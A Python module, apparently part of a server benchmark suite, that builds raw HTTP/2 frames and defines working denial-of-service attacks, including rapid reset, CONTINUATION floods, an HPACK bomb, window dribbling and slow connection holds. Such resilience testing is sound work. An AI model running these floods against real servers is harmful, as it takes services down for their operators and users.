"""Attacks over HTTP/2 (RFC 9113, 10.5), in the clear."""

from __future__ import annotations

import itertools
import struct
from typing import TYPE_CHECKING, Final

from benchmarks.attacks.attack import Attack, Ports
from benchmarks.attacks.pressure import flood, hold, repeated

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

__all__ = ["HTTP2_ATTACKS", "PREFACE", "frame", "get"]

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
GET_BLOCK: Final = bytes.fromhex("82868401") + b"\x01x"
POST_BLOCK: Final = bytes.fromhex("83868401") + b"\x01x"
LARGE_BLOCK: Final = bytes.fromhex("8286") + b"\x04\x06/large" + b"\x01\x01x"
"""By the static table: method, scheme, path, authority x (RFC 7541, Appendix A)."""
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
PRIORITY_UPDATE: Final = 0x10
CANCEL: Final = b"\0\0\0\x08"
END, ALL, WHOLE = 1, 4, 5
"""Flags: the end of the stream, of the fields, and both."""
NO_WINDOW: Final = struct.pack(">HL", 4, 0)


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def get(stream: int, block: bytes = GET_BLOCK) -> bytes:
    return frame(HEADERS, WHOLE, stream, block)


def literal(name: bytes, value: bytes, first: int = 0) -> bytes:
    """A field as it is. ``first``: 0x40 where it is remembered (RFC 7541, 6.2). The name is shorter than 127 bytes."""
    return bytes([first, len(name)]) + name + prefixed(len(value)) + value


def prefixed(number: int) -> bytes:
    """An integer with a prefix of seven bits, whose first bit is 0 (RFC 7541, 5.1)."""
    if number < 127:
        return bytes([number])
    wire, rest = b"\x7f", number - 127
    while rest >= 128:
        wire += bytes([0x80 | rest & 127])
        rest >>= 7
    return wire + bytes([rest])


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


# -- floods ---------------------------------------------------------------------------------------------------------


def rapid_resets() -> Iterator[bytes]:
    """Ask for much and take it back (CVE-2023-44487)."""
    yield PREFACE
    ids = streams()
    while True:
        yield b"".join(
            get(number, LARGE_BLOCK) + frame(RESET, 0, number, CANCEL) for number in itertools.islice(ids, 50)
        )


def continuations() -> Iterator[bytes]:
    """A field section without end (CVE-2024-27983 and its like)."""
    yield PREFACE + frame(HEADERS, END, 1, GET_BLOCK)
    while True:
        yield frame(CONTINUATION, 0, 1, b"\0\x01x\x7f\xe1\x0e" + b"y" * 1888) * 8


def priority_churn() -> Iterator[bytes]:
    """Streams that hang, and all of them change their places all the time (RFC 9218, 7.1; RFC 9113, 5.3)."""
    ids = list(itertools.islice(streams(), 50))
    yield PREFACE + b"".join(frame(HEADERS, ALL, number, POST_BLOCK) for number in ids)
    for turn in itertools.count():
        yield b"".join(
            frame(PRIORITY_UPDATE, 0, 0, struct.pack(">L", number) + b"u=%d" % ((number + turn) % 8))
            + frame(PRIORITY, 0, number, struct.pack(">LB", (number + 1 + 2 * turn) % 100, turn % 256))
            for number in ids
        )


def window_dribble() -> Iterator[bytes]:
    """Large answers, a byte at a time (CVE-2019-9511)."""
    yield PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW)
    ids = list(itertools.islice(streams(), 50))
    yield b"".join(get(number, LARGE_BLOCK) for number in ids)
    byte = b"".join(frame(WINDOW_UPDATE, 0, number, b"\0\0\0\x01") for number in ids)
    while True:
        yield byte


def settings_churn() -> Iterator[bytes]:
    """The first window of all streams that are open goes up and down (RFC 9113, 6.9.2)."""
    yield PREFACE + b"".join(get(number, LARGE_BLOCK) for number in itertools.islice(streams(), 100))
    while True:
        yield b"".join(frame(SETTINGS, 0, 0, struct.pack(">HL", 4, size)) for size in (0, 1, 65535) * 20)


def hpack_bomb() -> Iterator[bytes]:
    """A field of 3.9 KB is put into the table, and named by one byte 15,000 times in each request."""
    yield PREFACE + get(1, GET_BLOCK + literal(b"x", b"a" * 3900, 0x40))
    block = GET_BLOCK + b"\xbe" * 15_000
    for number in itertools.islice(streams(), 1, None):
        yield get(number, block)


def large_heads() -> Iterator[bytes]:
    """14 KB of fields in each request, which are remembered and push one another out of the table."""
    yield PREFACE
    fields = b"".join(literal(b"x-%d" % one, b"v" * 140, 0x40) for one in range(90))
    for number in streams():
        yield get(number, GET_BLOCK + fields)


def requests() -> Iterator[bytes]:
    """Nothing but requests, and no answer is read: windows stay open as long as they can."""
    yield PREFACE
    ids = streams()
    while True:
        yield b"".join([get(number) for number in itertools.islice(ids, 50)])


def unknown_frames() -> Iterator[bytes]:
    """To be ignored (RFC 9113, 5.5)."""
    return repeated(frame(0x99, 0, 0, b"x"), PREFACE)()


# -- slow -----------------------------------------------------------------------------------------------------------


async def stall(ports: Ports) -> None:
    """A hundred streams on each of fifty connections want a large answer and grant no window."""
    wire = PREFACE + frame(SETTINGS, 0, 0, NO_WINDOW)
    wire += b"".join(get(number, LARGE_BLOCK) for number in itertools.islice(streams(), 100))
    await hold(ports.clear, wire, b"", count=50)


async def slow_bodies(ports: Ports) -> None:
    """A hundred uploads on each of fifty connections, and a byte of one now and then."""
    wire = PREFACE + b"".join(frame(HEADERS, ALL, number, POST_BLOCK) for number in itertools.islice(streams(), 100))
    await hold(ports.clear, wire, frame(DATA, 0, 1, b"x"), count=50)


def http2(wire: Callable[[], Iterator[bytes]], *, read: bool = True) -> Attack:
    async def run(ports: Ports) -> None:
        await flood(ports.clear, wire, read=read)

    return Attack(run=run)


HTTP2_ATTACKS: Final = {
    "HTTP/2 rapid reset": http2(rapid_resets),
    "HTTP/2 CONTINUATION": http2(continuations),
    "HTTP/2 SETTINGS": http2(repeated(frame(SETTINGS, 0, 0), PREFACE)),
    "HTTP/2 SETTINGS churn": http2(settings_churn),
    "HTTP/2 PING": http2(repeated(frame(PING, 0, 0, bytes(8)), PREFACE)),
    "HTTP/2 empty DATA": http2(repeated(frame(DATA, 0, 1), PREFACE + frame(HEADERS, ALL, 1, POST_BLOCK))),
    "HTTP/2 DATA of a byte": http2(repeated(frame(DATA, 0, 1, b"x"), PREFACE + frame(HEADERS, ALL, 1, POST_BLOCK))),
    "HTTP/2 priorities": http2(priority_churn),
    "HTTP/2 windows of a byte": http2(window_dribble),
    "HTTP/2 unknown frames": http2(unknown_frames),
    "HTTP/2 HPACK bomb": http2(hpack_bomb),
    "HTTP/2 large heads": http2(large_heads),
    "HTTP/2 requests": http2(requests, read=False),
    "HTTP/2 closed windows": Attack(run=stall),
    "HTTP/2 slow bodies": Attack(run=slow_bodies),
}
